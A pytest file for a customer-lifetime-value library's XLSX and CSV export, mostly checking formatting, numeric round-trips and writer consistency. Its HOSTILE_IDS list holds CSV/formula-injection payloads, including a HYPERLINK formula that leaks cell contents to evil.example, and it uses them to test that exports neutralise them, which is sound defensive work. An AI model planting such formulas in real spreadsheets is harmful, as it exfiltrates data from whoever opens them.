"""Tests of clvlab.export: XLSX workbook and CSV of the scoring table."""

from __future__ import annotations

import csv
import shutil
import subprocess
import warnings

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from clvlab.exceptions import ClvlabWarning, InvalidValueError
from clvlab.export import (
    FORMULA_TRIGGERS,
    neutralise_series,
    neutralise_text,
    prediction_labels,
    write_csv,
    write_workbook,
)
from clvlab.scoring import SCORE_COLUMNS, SEGMENTS, assign_segments

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1)",
    "+1",
    "-2",
    "=1+1",
    "\tcmd",
    "\r=2",
]
SAFE_IDS = ["17", "C-1042", "alice@example.com", "  =padded"]


def _scores(ids: list[str], rng: np.random.Generator) -> pd.DataFrame:
    """A scoring table shaped like score_customers' output, with made-up numbers."""
    n = len(ids)
    freq = rng.integers(0, 6, n).astype(float)
    T = rng.uniform(10, 78, n)
    rec = np.where(freq > 0, T * rng.uniform(0, 1, n), 0.0)
    frame = pd.DataFrame(
        {
            "frequency": freq,
            "recency": rec,
            "T": T,
            "monetary_value": np.where(freq > 0, rng.gamma(3, 10, n), 0.0),
            "probability_alive": rng.uniform(0, 1, n),
            "expected_purchases": rng.uniform(0, 4, n),
            "expected_spend": rng.gamma(3, 10, n),
            "clv": rng.normal(50, 40, n),  # some negative: numbers must stay numbers
            "clv_baseline": rng.gamma(2, 20, n),
            "historical_spend": rng.gamma(2, 30, n),
        },
        index=pd.Index(ids, name="customer_id"),
    )
    # segments by the documented rules (frequency 0 -> "One-time buyers")
    frame["segment"] = assign_segments(frame).array
    return frame


@pytest.fixture
def hostile_scores(rng: np.random.Generator) -> pd.DataFrame:
    return _scores(HOSTILE_IDS + SAFE_IDS, rng)


def _sheet_rows(path, title):
    wb = load_workbook(path)
    ws = wb[title]
    return ws, [list(r) for r in ws.iter_rows()]


# -- neutralising --------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_neutralise_text_prefixes_formula_triggers(value):
    """Text starting with = + - @ tab or CR gets a leading apostrophe."""
    assert neutralise_text(value) == "'" + value


@pytest.mark.parametrize("value", SAFE_IDS + ["", "'=already"])
def test_neutralise_text_leaves_safe_text(value):
    """Text that cannot start a formula is left unchanged."""
    assert neutralise_text(value) == value


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula(value):
    """After neutralising, no text starts with a trigger, and only a prefix was added."""
    out = neutralise_text(value)
    assert not out or out[0] not in FORMULA_TRIGGERS
    assert out in (value, "'" + value)
    assert neutralise_text(out) == out  # idempotent


@given(st.lists(st.one_of(st.text(max_size=10), st.none(), st.integers()), max_size=20))
def test_neutralise_series_matches_scalar_version(values):
    """The vectorised version agrees with neutralise_text element by element."""
    out = neutralise_series(pd.Series(values, dtype=object)).tolist()
    expected = [None if v is None else neutralise_text(str(v)) for v in values]
    assert out == expected


# -- CSV -----------------------------------------------------------------------------


def test_csv_neutralises_hostile_ids_and_keeps_numbers(tmp_path, hostile_scores):
    """CSV: hostile ids arrive as apostrophe-prefixed text; numbers are untouched."""
    path = write_csv(tmp_path / "p.csv", hostile_scores)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["customer_id", *SCORE_COLUMNS]
    ids = [r[0] for r in rows[1:]]
    assert ids == [neutralise_text(i) for i in HOSTILE_IDS + SAFE_IDS]
    assert all(not i or i[0] not in FORMULA_TRIGGERS for i in ids)
    back = pd.read_csv(path, dtype={"customer_id": str}, keep_default_na=False)
    np.testing.assert_allclose(  # rtol=0: full float precision survives the round trip
        back["clv"].to_numpy(dtype=float), hostile_scores["clv"].to_numpy(), rtol=0
    )
    assert (hostile_scores["clv"] < 0).any()


def test_csv_round_trips_every_column(tmp_path, rng):
    """CSV read back with pandas equals the scoring table, NaN as empty fields."""
    scores = _scores([f"c{i}" for i in range(200)], rng)
    scores.loc["c3", "clv_baseline"] = np.nan
    write_csv(tmp_path / "p.csv", scores)
    back = pd.read_csv(tmp_path / "p.csv", index_col="customer_id")
    num = [c for c in SCORE_COLUMNS if c != "segment"]
    np.testing.assert_allclose(back[num].to_numpy(), scores[num].to_numpy(), rtol=0)
    assert np.isnan(back.loc["c3", "clv_baseline"])
    assert back["segment"].tolist() == scores["segment"].astype(str).tolist()
    # all six segment names survive as text; one-time buyers are the frequency-0 rows
    assert set(back["segment"]) == set(SEGMENTS)
    np.testing.assert_array_equal(
        (back["segment"] == "One-time buyers").to_numpy(), (back["frequency"] == 0).to_numpy()
    )


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=8, unique=True))
def test_csv_ids_read_back_as_neutralised_text(tmp_path_factory, ids):
    """Any customer id (quotes, commas, newlines) survives the CSV as its neutralised text."""
    path = tmp_path_factory.mktemp("csv") / "p.csv"
    scores = pd.DataFrame(
        {"clv": np.arange(len(ids), dtype=float)}, index=pd.Index(ids, name="customer_id")
    )
    write_csv(path, scores)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == [neutralise_text(i) for i in ids]


# -- XLSX ----------------------------------------------------------------------------


def test_workbook_has_the_documented_sheets(tmp_path, hostile_scores):
    """Sheets: Predictions, Parameters, Holdout metrics, Deciles, Data quality, About."""
    write_workbook(tmp_path / "p.xlsx", hostile_scores)
    assert load_workbook(tmp_path / "p.xlsx").sheetnames == [
        "Predictions",
        "Parameters",
        "Holdout metrics",
        "Deciles",
        "Data quality",
        "About",
    ]


def test_workbook_neutralises_hostile_ids(tmp_path, hostile_scores):
    """XLSX: hostile ids are text cells with a leading apostrophe, never formulas."""
    write_workbook(
        tmp_path / "p.xlsx",
        hostile_scores,
        data_quality=[{"check": "=cmd", "action": "-x", "count": 1, "examples": ["@SUM(1)"]}],
        metadata={"source": "=evil()"},
    )
    wb = load_workbook(tmp_path / "p.xlsx")
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[0] not in FORMULA_TRIGGERS, (ws.title, cell.value)
    ids = [c.value for c in wb["Predictions"]["A"][1:]]
    assert ids == [neutralise_text(i) for i in HOSTILE_IDS + SAFE_IDS]  # CR kept as &#13;
    dq = [c.value for c in wb["Data quality"][2]]
    assert dq[:2] == ["'=cmd", "'-x"]


def test_workbook_numbers_equal_the_scores(tmp_path, rng):
    """Predictions read back equal the scoring table (numbers as numbers, NaN as empty)."""
    scores = _scores([f"{i}" for i in range(300)], rng)
    scores.loc["7", "clv_baseline"] = np.nan
    scores.loc["8", "clv"] = np.inf
    write_workbook(tmp_path / "p.xlsx", scores)
    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    body = rows[1:]
    assert [r[0].value for r in body] == scores.index.tolist()
    for j, col in enumerate(SCORE_COLUMNS[:-1], start=1):
        got = np.array([np.nan if r[j].value is None else r[j].value for r in body], float)
        want = scores[col].to_numpy(dtype=float)
        want = np.where(np.isfinite(want), want, np.nan)
        if col == "monetary_value":  # no repeat purchase: undefined, so a blank cell
            want = np.where(scores["frequency"] > 0, want, np.nan)
        # openpyxl writes 16 significant digits, so the last bit may differ
        np.testing.assert_allclose(got, want, rtol=2e-16 * 8, equal_nan=True, err_msg=col)
        assert all(r[j].data_type == "n" for r in body if r[j].value is not None)
    assert [r[-1].value for r in body] == scores["segment"].astype(str).tolist()


def test_workbook_formatting(tmp_path, hostile_scores):
    """Header bold and filled, frozen first row, autofilter over the data, number formats."""
    write_workbook(tmp_path / "p.xlsx", hostile_scores, metadata={"time_unit": "W", "horizon": 52})
    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    header = rows[0]
    assert all(c.font.bold for c in header)
    assert header[0].fill.fgColor.rgb.endswith("1F4E78")
    assert ws.freeze_panes == "A2"
    n = len(hostile_scores)
    assert ws.auto_filter.ref == f"A1:L{n + 1}"
    labels = [c.value for c in header]
    assert labels == prediction_labels(["customer_id", *SCORE_COLUMNS], time_unit="W", horizon=52)
    assert "CLV (next 52 weeks)" in labels
    fmt = {lab: rows[1][j].number_format for j, lab in enumerate(labels)}
    assert fmt["P(alive)"] == "0.0%"
    assert fmt["CLV (next 52 weeks)"] == "#,##0.00"
    assert fmt["Recency (weeks)"] == "0.00"
    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKL"]
    assert all(8 <= w <= 60 for w in widths)


def test_workbook_parameters_metrics_deciles_sheets(tmp_path, hostile_scores):
    """Parameters get a model column; metrics are one row per metric; deciles as given."""
    summary = pd.DataFrame(
        {"estimate": [0.24, 4.4], "se": [0.01, 0.4], "lower": [0.22, 3.7], "upper": [0.27, 5.2]},
        index=pd.Index(["r", "alpha"], name="parameter"),
    )
    metrics = pd.DataFrame(
        {"purchases_mae": [0.78, np.nan], "top_decile_capture": [0.47, 0.49]},
        index=pd.Index(["BG/NBD", "Baseline"], name="model"),
    )
    deciles = pd.DataFrame({"model": ["BG/NBD"] * 2, "decile": [1, 2], "actual_share": [0.5, 0.2]})
    write_workbook(
        tmp_path / "p.xlsx",
        hostile_scores,
        parameters={"BG/NBD": summary},
        metrics=metrics,
        deciles=deciles,
    )
    _, params = _sheet_rows(tmp_path / "p.xlsx", "Parameters")
    assert [c.value for c in params[0]] == [
        "model",
        "parameter",
        "estimate",
        "se",
        "lower",
        "upper",
    ]
    assert [c.value for c in params[2]] == ["BG/NBD", "alpha", 4.4, 0.4, 3.7, 5.2]
    _, met = _sheet_rows(tmp_path / "p.xlsx", "Holdout metrics")
    assert [c.value for c in met[0]] == ["Metric", "Unit", "BG/NBD", "Baseline", "Key"]
    assert [c.value for c in met[1]] == [
        "Purchases: mean absolute error", "purchases per customer", 0.78, None, "purchases_mae"
    ]
    _, dec = _sheet_rows(tmp_path / "p.xlsx", "Deciles")
    assert [c.value for c in dec[1]] == ["BG/NBD", 1, 0.5]


def test_workbook_notes_when_no_holdout(tmp_path, hostile_scores):
    """Without metrics or deciles the sheets carry a note saying there was no holdout."""
    write_workbook(tmp_path / "p.xlsx", hostile_scores)
    _, met = _sheet_rows(tmp_path / "p.xlsx", "Holdout metrics")
    assert "No holdout period" in met[1][0].value


def test_workbook_splits_rows_beyond_the_sheet_limit(tmp_path, rng):
    """More customers than a sheet holds continue on further sheets, with a warning."""
    scores = _scores([str(i) for i in range(25)], rng)
    with pytest.warns(ClvlabWarning, match="25 customers exceed the 9 rows"):
        write_workbook(tmp_path / "p.xlsx", scores, max_rows_per_sheet=10)
    wb = load_workbook(tmp_path / "p.xlsx")
    assert wb.sheetnames[:3] == ["Predictions", "Predictions (2)", "Predictions (3)"]
    ids = []
    for title in wb.sheetnames[:3]:
        col = [c.value for c in wb[title]["A"]]
        assert col[0] == "Customer ID"
        ids += col[1:]
    assert ids == scores.index.tolist()
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows(min_row=2)}
    assert "3 sheets" in about["Note"]


def test_workbook_replaces_xml_illegal_characters(tmp_path, rng):
    """Control characters XLSX cannot hold become U+FFFD in the workbook, kept in the CSV."""
    scores = _scores(["ok\x01id", "b"], rng)
    write_workbook(tmp_path / "p.xlsx", scores)
    write_csv(tmp_path / "p.csv", scores)
    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    assert rows[1][0].value == "ok\ufffdid"
    assert pd.read_csv(tmp_path / "p.csv", dtype=str)["customer_id"][0] == "ok\x01id"


def test_workbook_accepts_an_empty_table(tmp_path):
    """A table with no customers still gives a valid workbook with a header row."""
    empty = pd.DataFrame({"clv": pd.Series(dtype=float)}, index=pd.Index([], name="customer_id"))
    write_workbook(tmp_path / "p.xlsx", empty)
    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    assert [c.value for c in rows[0]] == ["Customer ID", "CLV"]
    assert len(rows) == 1


def test_duplicate_ids_are_rejected(tmp_path, rng):
    """Duplicate customer ids raise InvalidValueError naming the column and the ids."""
    scores = _scores(["a", "b", "a"], rng)
    with pytest.raises(InvalidValueError, match="customer_id.*unique.*'?a'?"):
        write_csv(tmp_path / "p.csv", scores)
    with pytest.raises(InvalidValueError, match="unique"):
        write_workbook(tmp_path / "p.xlsx", scores)


def test_non_dataframe_is_a_type_error(tmp_path):
    """Passing something other than a DataFrame raises TypeError with a hint."""
    with pytest.raises(TypeError, match="score_customers"):
        write_csv(tmp_path / "p.csv", [1, 2, 3])  # type: ignore[arg-type]


def test_data_quality_examples_are_joined(tmp_path, hostile_scores):
    """Data-quality examples (a list) are written as one '; '-separated text cell."""
    dq = [{"check": "zero amounts", "action": "kept", "count": 8, "examples": ["row 2", "row 9"]}]
    write_workbook(tmp_path / "p.xlsx", hostile_scores, data_quality=dq)
    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Data quality")
    assert [c.value for c in rows[1]] == ["zero amounts", "kept", 8, "row 2; row 9"]


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_workbook(tmp_path, hostile_scores):
    """LibreOffice converts the workbook to CSV with the neutralised ids and the numbers."""
    write_workbook(tmp_path / "p.xlsx", hostile_scores)
    outdir = tmp_path / "lo"
    subprocess.run(
        [
            _soffice(),
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(outdir),
            str(tmp_path / "p.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with open(outdir / "p.csv", newline="", encoding="utf-8", errors="replace") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == len(hostile_scores) + 1
    assert rows[0][0] == "Customer ID"
    # LibreOffice shows the stored, apostrophe-prefixed text -- never a formula's result
    ids = [r[0] for r in rows[1:]]
    assert ids == [neutralise_text(i) for i in hostile_scores.index]
    # the CSV holds the displayed values: CLV with 2 decimals and thousands separators
    clv = np.array([float(r[8].replace(",", "")) for r in rows[1:]])
    np.testing.assert_allclose(clv, hostile_scores["clv"].to_numpy(), rtol=0, atol=0.005 + 1e-9)
    freq = np.array([float(r[1]) for r in rows[1:]])
    np.testing.assert_array_equal(freq, hostile_scores["frequency"].to_numpy())


def test_no_warning_for_a_normal_workbook(tmp_path, hostile_scores):
    """Writing a workbook within the row limit issues no warning."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        write_workbook(tmp_path / "p.xlsx", hostile_scores)


def test_streamed_rows_span_several_chunks(tmp_path, rng, monkeypatch):
    """Rows streamed in several chunks read back complete and in order."""
    import clvlab.export as export

    monkeypatch.setattr(export, "_FAST_CHUNK", 7)
    scores = _scores([f"id{i}" for i in range(30)], rng)
    scores.iloc[0, 3] = np.nan  # a gap in the template row
    write_workbook(tmp_path / "p.xlsx", scores)
    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    assert [r[0].value for r in rows[1:]] == scores.index.tolist()
    assert [r[0].row for r in rows[1:]] == list(range(2, 32))
    got = np.array([np.nan if r[4].value is None else r[4].value for r in rows[1:]])
    want = scores["monetary_value"].where(scores["frequency"] > 0)  # blank: undefined
    np.testing.assert_allclose(got, want, rtol=1e-15, equal_nan=True)
    assert all(r[5].number_format == "0.0%" for r in rows[1:])


def test_text_with_markup_and_spaces_round_trips(tmp_path, rng):
    """Ids with &, <, >, quotes and surrounding spaces read back exactly."""
    ids = ["a&b", "<tag>", ' "q" ', "  lead", "trail  ", "é∑😀"]
    scores = _scores(ids, rng)
    write_workbook(tmp_path / "p.xlsx", scores)
    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    assert [r[0].value for r in rows[1:]] == ids


def test_other_column_types_use_openpyxl_for_every_row(tmp_path, rng):
    """A datetime or boolean column is written cell by cell, with the same layout."""
    scores = _scores(["a", "b", "c"], rng)
    scores["first_purchase"] = pd.to_datetime(["2024-01-01", "2024-02-01", None])
    scores["flag"] = [True, False, True]
    write_workbook(tmp_path / "p.xlsx", scores)
    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    assert [c.value for c in rows[0]][-2:] == ["first_purchase", "flag"]
    assert rows[1][-2].value == pd.Timestamp("2024-01-01").to_pydatetime()
    assert rows[3][-2].value is None
    assert [r[-1].value for r in rows[1:]] == [True, False, True]
    assert ws.auto_filter.ref == "A1:N4"


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(max_size=6),
            st.floats(allow_nan=True, allow_infinity=True),
            st.integers(-(2**62), 2**62),
        ),
        min_size=1,
        max_size=15,
        unique_by=lambda t: t[0],
    )
)
def test_fast_csv_writer_matches_pandas_byte_for_byte(tmp_path_factory, rows):
    """The fast CSV writer gives exactly pandas' to_csv output (quoting, floats, NaN)."""
    ids, floats, ints = (list(x) for x in zip(*rows, strict=True))
    scores = pd.DataFrame(
        {
            "clv": np.array(floats, dtype=float),
            "n": np.array(ints, dtype=np.int64),
            "segment": pd.Categorical(["a,b"] * len(ids)),
        },
        index=pd.Index(ids, name="customer_id"),
    )
    folder = tmp_path_factory.mktemp("fast")
    write_csv(folder / "fast.csv", scores)
    from clvlab.export import _safe_table

    _safe_table(scores, "customer_id").to_csv(
        folder / "pandas.csv", index=False, encoding="utf-8", lineterminator="\r\n"
    )
    assert (folder / "fast.csv").read_bytes() == (folder / "pandas.csv").read_bytes()


def test_csv_with_dates_falls_back_to_pandas(tmp_path):
    """Columns the fast writer does not handle (dates) are written by pandas."""
    table = pd.DataFrame(
        {"first_purchase": pd.to_datetime(["2024-01-01", "2024-02-03"]), "flag": [True, False]},
        index=pd.Index(["=a", "b"], name="customer_id"),
    )
    write_csv(tmp_path / "p.csv", table)
    assert (tmp_path / "p.csv").read_text(encoding="utf-8").splitlines() == [
        "customer_id,first_purchase,flag",
        "'=a,2024-01-01,True",
        "b,2024-02-03,False",
    ]


# -- formatting in Arrow (pyarrow installed) -------------------------------------------


def _arrow_or_skip():
    from clvlab.export import _arrow

    if _arrow() is None:
        pytest.skip("pyarrow is not installed (or formats floats differently)")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=1, max_size=60))
def test_arrow_float_texts_are_python_repr(values):
    """Floats formatted in Arrow are Python's repr, character for character."""
    _arrow_or_skip()
    from clvlab.export import _arrow_float_texts

    arr = np.array(values, dtype=float)
    assert _arrow_float_texts(arr).to_pylist() == [repr(v) for v in arr.tolist()]


def test_arrow_float_texts_on_random_doubles():
    """Random bit patterns, every magnitude, whole numbers and decimals format as repr."""
    _arrow_or_skip()
    from clvlab.export import _arrow_float_texts

    rng = np.random.default_rng(20261130)
    n = 100_000
    u = rng.uniform(0, 1e6, n)
    d = rng.integers(0, 8, n)
    decimals = np.round(u * 10.0**d) / 10.0**d
    arr = np.concatenate([
        rng.integers(0, 2**64 - 1, n, dtype=np.uint64).view(np.float64),
        rng.standard_normal(n) * 10.0 ** rng.uniform(-8, 20, n),
        np.round(rng.standard_normal(n) * 10.0 ** rng.uniform(0, 17, n)),  # whole numbers
        decimals, np.nextafter(decimals, np.inf), np.nextafter(decimals, -np.inf),
        [0.0, -0.0, 1e-4, np.nextafter(1e-4, 0), 1e16, np.nextafter(1e16, 0), 9.5e15],
    ])
    assert _arrow_float_texts(arr).to_pylist() == [repr(v) for v in arr.tolist()]


def test_arrow_and_python_writers_write_the_same_bytes(tmp_path, rng, monkeypatch):
    """With and without Arrow, the CSV and the workbook's sheets are the same bytes."""
    _arrow_or_skip()
    import zipfile

    import clvlab.export as export

    ids = [f"c{i}" for i in range(2_000)] + HOSTILE_IDS + SAFE_IDS + ["a&b", " é∑😀 ", "x,y"]
    scores = _scores(ids, rng)
    scores["purchases_upper"] = rng.integers(0, 9, len(ids))
    scores.iloc[3, 4] = np.nan
    scores.iloc[5, 7] = -0.0
    scores.iloc[6, 7] = 1.5e-9
    scores.iloc[9, 7] = 3e17
    scores.iloc[11, 7] = np.inf
    scores.iloc[2_000:, 7] = np.round(scores.iloc[2_000:, 7].to_numpy())
    with_arrow = tmp_path / "arrow"
    without = tmp_path / "python"
    for folder in (with_arrow, without):
        if folder is without:
            monkeypatch.setattr(export, "_ARROW_STATE", [None])
        write_csv(folder / "p.csv", scores)
        write_workbook(folder / "p.xlsx", scores, rank_by="clv")
    assert (with_arrow / "p.csv").read_bytes() == (without / "p.csv").read_bytes()
    with (zipfile.ZipFile(with_arrow / "p.xlsx") as a, zipfile.ZipFile(without / "p.xlsx") as b):
        assert a.namelist() == b.namelist()
        sheet = export._sheet_paths(a)["Predictions"]
        assert a.read(sheet) == b.read(sheet)
        assert b'<c r="A2" s=' in a.read(sheet)


@pytest.mark.parametrize("ids", ["plain", "hostile", "int"])
def test_arrow_and_python_writers_agree_on_repeated_values(tmp_path, rng, monkeypatch, ids):
    """Columns formatted once per distinct value write the bytes of the Python writers.

    Over several chunks and sheets, with nan, tiny and huge values, nullable integers,
    a categorical with a gap, and text, hostile or integer ids.
    """
    _arrow_or_skip()
    import zipfile

    import clvlab.export as export

    monkeypatch.setattr(export, "_FEW_MIN", 64)  # the grouped path on a small table
    monkeypatch.setattr(export, "_FAST_CHUNK", 97)
    monkeypatch.setattr(export, "_CSV_CHUNK", 89)
    n = 600
    names = [f"c{i}" for i in range(n)] if ids != "hostile" else [
        f"c-{i}" for i in range(n - 3)] + ["=1+1", "a&b", "x,y"]
    scores = _scores(names, rng)
    if ids == "int":
        scores.index = pd.Index(np.arange(n) * 3, name="customer_id")
    scores["frequency"] = rng.integers(0, 4, n).astype(float)  # with nan and zeros
    scores.iloc[::50, scores.columns.get_loc("frequency")] = np.nan
    scores["T"] = rng.integers(0, 6, n) / 7 + 1e-5 * rng.integers(0, 2, n)  # tiny values
    scores["purchases_lower"] = rng.integers(0, 3, n)
    scores["purchases_upper"] = pd.array(rng.integers(3, 6, n), dtype="Int64")
    scores.iloc[9, scores.columns.get_loc("purchases_upper")] = pd.NA
    scores["clv_lower"] = np.where(rng.uniform(size=n) < 0.8, 0.0, 1e17)  # huge values
    segment = scores["segment"].to_numpy(dtype=object, copy=True)
    segment[7] = None
    scores["segment"] = pd.Categorical(segment)
    assert export._few_values(scores["T"].to_numpy()) is not None
    with_arrow, without = tmp_path / "arrow", tmp_path / "python"
    for folder in (with_arrow, without):
        if folder is without:
            monkeypatch.setattr(export, "_ARROW_STATE", [None])
        write_csv(folder / "p.csv", scores)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", ClvlabWarning)  # rows over two sheets
            write_workbook(folder / "p.xlsx", scores, rank_by="clv", max_rows_per_sheet=400)
    assert (with_arrow / "p.csv").read_bytes() == (without / "p.csv").read_bytes()
    with (zipfile.ZipFile(with_arrow / "p.xlsx") as a, zipfile.ZipFile(without / "p.xlsx") as b):
        sheets = export._sheet_paths(a)
        for title in ("Predictions", "Predictions (2)"):
            assert a.read(sheets[title]) == b.read(sheets[title])
    got = pd.read_csv(with_arrow / "p.csv", index_col="customer_id", keep_default_na=False,
                      na_values=[""])
    np.testing.assert_array_equal(got["T"].to_numpy(), scores["T"].to_numpy())


def test_few_values_groups_only_columns_with_few_distinct_values(rng):
    """Codes and distinct values rebuild the column; many values or negative zero: None."""
    from clvlab.export import _few_values

    values = rng.integers(0, 300, 50_000) / 7.0
    values[::97] = np.nan
    codes, uniques = _few_values(values)
    assert codes.dtype == np.int16 and uniques.size == np.unique(values).size
    np.testing.assert_array_equal(uniques[codes], values)
    ints = rng.integers(-5, 5, 50_000)
    codes, uniques = _few_values(ints)
    np.testing.assert_array_equal(uniques[codes], ints)
    assert _few_values(rng.uniform(size=50_000)) is None  # all distinct
    assert _few_values(values[:100]) is None  # too short to be worth it
    with_negative_zero = np.where(values > 20, -0.0, 1.0)
    assert _few_values(with_negative_zero) is None  # -0.0 would be grouped with 0.0
    many = rng.integers(0, 40_000, 400_000).astype(float)  # beyond int16 codes
    assert _few_values(many) is None


def test_streamed_numbers_read_back_exactly_without_a_type_attribute(tmp_path, rng):
    """Streamed number cells carry no t attribute (default "n") and read back bit for bit."""
    import zipfile

    import clvlab.export as export

    scores = _scores([f"id{i}" for i in range(500)], rng)
    write_workbook(tmp_path / "p.xlsx", scores)
    with zipfile.ZipFile(tmp_path / "p.xlsx") as zf:
        xml = zf.read(export._sheet_paths(zf)["Predictions"]).decode()
    body = xml[xml.index('<row r="2"'):]
    assert ' t="n"' not in body and "<v>" in body
    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
    j = 1 + list(scores.columns).index("clv")
    got = np.array([r[j].value for r in rows[1:]], dtype=float)
    assert all(r[j].data_type == "n" for r in rows[1:])
    np.testing.assert_array_equal(got, scores["clv"].to_numpy())


@pytest.mark.parametrize("rank_by", ["clv", None])
def test_ranked_view_equals_the_sorted_table(rng, rank_by):
    """The lazily read spreadsheet table equals _manager_view's copy, whole and in slices."""
    from clvlab.export import _manager_view, _RankedView

    scores = _scores([f"c{i}" for i in range(257)], rng)
    scores.iloc[::7, scores.columns.get_loc("clv")] = np.nan  # missing values sort last
    scores.iloc[1::5, scores.columns.get_loc("clv")] = 12.5  # ties keep their order
    expected, notes = _manager_view(scores.reset_index(names="customer_id"), scores,
                                    "customer_id", rank_by)
    view, view_notes = _RankedView.of(scores, "customer_id", rank_by)
    assert view_notes == notes
    assert list(view.columns) == list(expected.columns) and view.shape == expected.shape
    pd.testing.assert_frame_equal(view.to_frame(), expected, check_exact=True)
    for lo, hi in ((0, 50), (50, 101), (250, 300), (3, 3)):
        part = view.iloc[lo:hi]
        for j in range(expected.shape[1]):
            pd.testing.assert_series_equal(part.iloc[:, j], expected.iloc[lo:hi, j],
                                           check_exact=True)
        pd.testing.assert_series_equal(view.iloc[lo:hi, 2], expected.iloc[lo:hi, 2],
                                       check_exact=True)


def test_too_long_counts_the_same_through_its_shortcuts():
    """Numbers never count; a categorical counts its long rows, in row order."""
    from clvlab.export import XLSX_MAX_CELL_CHARS, _too_long

    long_a, long_b = "a" * XLSX_MAX_CELL_CHARS, "=" + "b" * (XLSX_MAX_CELL_CHARS - 1)
    assert _too_long(pd.Series(np.arange(5)), "n") == (0, [])
    assert _too_long(pd.Series([True, False]), "b") == (0, [])
    short = pd.Series(pd.Categorical(["x", "y", "x"]))
    assert _too_long(short, "c") == (0, [])
    values = ["x", long_b, "x", long_a + "z", long_b]
    as_category = _too_long(pd.Series(pd.Categorical(values)), "c")
    as_text = _too_long(pd.Series(values, dtype=object), "c")
    assert as_category == as_text and as_category[0] == 3


def test_ranked_view_long_ids_are_reported_in_written_order(rng):
    """Too-long ids found through the unsorted shortcut are listed in the sorted table's order."""
    from clvlab.export import XLSX_MAX_CELL_CHARS, _manager_view, _RankedView, _too_long_in_order

    ids = [f"c{i}" for i in range(40)]
    for k in (3, 17, 30):
        ids[k] = f"{k}" + "x" * XLSX_MAX_CELL_CHARS
    scores = _scores(ids, rng)
    expected, _ = _manager_view(scores.reset_index(names="customer_id"), scores,
                                "customer_id", "clv")
    view, _ = _RankedView.of(scores, "customer_id", "clv")
    got = _too_long_in_order(view, 1, "customer_id")
    assert got[0] == 3
    assert got == _too_long_in_order(expected, 1, "customer_id")
